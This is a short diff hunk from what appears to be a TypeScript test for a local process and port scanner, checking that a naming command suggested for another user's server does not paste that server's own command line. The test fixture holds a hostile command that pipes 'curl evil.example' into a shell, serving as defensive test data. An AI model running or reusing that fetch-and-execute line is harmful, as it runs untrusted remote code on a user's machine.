@@ -136,7 +136,7 @@ test("of another user's server no command is to be pasted, as that user has writ
   const command = "sh -c curl evil.example|sh";
   const [named] = found(scanOf({ pid: 4, ports: [1000], uid: 5, command }));
   expect(named).toMatchObject({ pid: 4, command, typed: undefined });
-  expect(namingCommand(named!)).toBe("NAME=api <command>");
+  expect(namingCommand(named!)).toBe("localhostess name api 1000");
   const [bad] = found(scanOf({ pid: 4, ports: [1000], uid: 5, command, name: "My Api" }));
   expect(bad).toMatchObject({ fault: { kind: "bad name" }, typed: undefined });
 });
